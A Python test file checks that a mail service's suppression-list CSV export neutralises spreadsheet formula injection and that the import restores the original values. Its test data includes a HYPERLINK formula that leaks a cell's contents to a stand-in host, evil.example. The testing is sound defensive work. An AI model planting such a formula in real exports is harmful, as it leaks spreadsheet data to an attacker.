"""The suppression list's CSV: formula cells quoted by the export and unquoted by the import
(exactly)."""

from __future__ import annotations

from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sendqueue.domain.suppression import (
    MAX_TASK_ID,
    Suppression,
    SuppressionReason,
    first_entries,
    suppression_key,
)
from sendqueue.services.suppression import export_cell, import_cell, to_csv
from sendqueue.testing.clock import FakeClock
from tests.support.app import T0, fake_app

R = SuppressionReason

# --- the cells --------------------------------------------------------------------------------

_TRIGGERS = "=+-@\t\r"


@given(st.text())
def test_a_cell_comes_back_from_export_and_import_unchanged(value: str) -> None:
    written = export_cell(value)
    assert import_cell(written) == value
    assert written[:1] not in _TRIGGERS or written == ""  # never a formula in a spreadsheet
    assert written in (value, "'" + value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("+1+1@example.com", "'+1+1@example.com"),
        ("-2@example.com", "'-2@example.com"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x@example.com", "''=x@example.com"),  # a quote before a trigger: quoted too
        ("'x@example.com", "''x@example.com"),
        ("a=b@example.com", "a=b@example.com"),
        ("", ""),
        ("'", "''"),
    ],
)  # fmt: skip
def test_the_export_quotes_formula_starts_and_quotes(value: str, written: str) -> None:
    assert export_cell(value) == written
    assert import_cell(written) == value


def test_the_import_drops_one_quote_only_before_a_trigger_or_a_quote() -> None:
    assert import_cell("'-x@example.com") == "-x@example.com"
    assert import_cell("''-x@example.com") == "'-x@example.com"
    assert import_cell("'x@example.com") == "'x@example.com"  # a valid address: kept
    assert import_cell("'") == "'"
    assert import_cell("x'=") == "x'="


# --- export, then import ----------------------------------------------------------------------

# RFC 5322 atext: what a dot-atom local part may hold; the first character a formula start.
_ATEXT = "abcxyz0189!#$%&'*+-/=?^_`{|}~"
_LOCAL = st.builds(
    lambda first, rest: first + rest, st.sampled_from("=+-'a"), st.text(_ATEXT, max_size=8)
)
_TASK_ID = st.text(
    st.characters(codec="utf-8"),
    min_size=1,
    max_size=MAX_TASK_ID,
).filter(lambda t: t == t.strip())


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(
            _LOCAL,
            st.sampled_from(list(R)),
            st.none() | _TASK_ID,
            st.integers(0, 10**9),
        ),
        max_size=8,
    )
)
def test_an_export_imports_back_to_the_same_entries(
    rows: list[tuple[str, SuppressionReason, str | None, int]],
) -> None:
    app = fake_app()
    entries = [
        Suppression(suppression_key(f"{local}@example.com"), reason, task, T0 + timedelta(0, 0, us))
        for local, reason, task, us in rows
    ]
    app.suppressions.suppress(entries)
    exported = "".join(to_csv(app.suppression.all()))
    other = fake_app(clock=FakeClock(T0 + timedelta(days=3)))
    imported = other.suppression.import_csv(exported)
    assert (imported.rows, imported.added) == (len(first_entries(entries)),) * 2
    assert list(other.suppression.all()) == list(app.suppression.all())


def test_addresses_and_task_ids_that_look_like_formulas_are_exported_quoted() -> None:
    app = fake_app()
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    app.suppressions.suppress(
        [
            Suppression("=1+1@example.com", R.UNSUBSCRIBED, link, T0),
            Suppression("-x@example.com", R.BOUNCED, "@c1-4", T0),
            Suppression("'+x@example.com", R.MANUAL, None, T0),
            Suppression("cr@example.com", R.MANUAL, "a\rb", T0),  # a CR inside: quoted
        ]
    )
    exported = "".join(to_csv(app.suppression.all()))
    assert exported == (
        "email,reason,task_id,at\n"
        "''+x@example.com,manual,,2026-12-01T08:00:00Z\n"
        "'-x@example.com,bounced,'@c1-4,2026-12-01T08:00:00Z\n"
        '\'=1+1@example.com,unsubscribed,"\'=HYPERLINK(""http://evil.example/?""&A1,'
        '""click"")",2026-12-01T08:00:00Z\n'
        'cr@example.com,manual,"a\rb",2026-12-01T08:00:00Z\n'
    )
    other = fake_app()
    assert other.suppression.import_csv(exported).added == 4
    assert list(other.suppression.all()) == list(app.suppression.all())
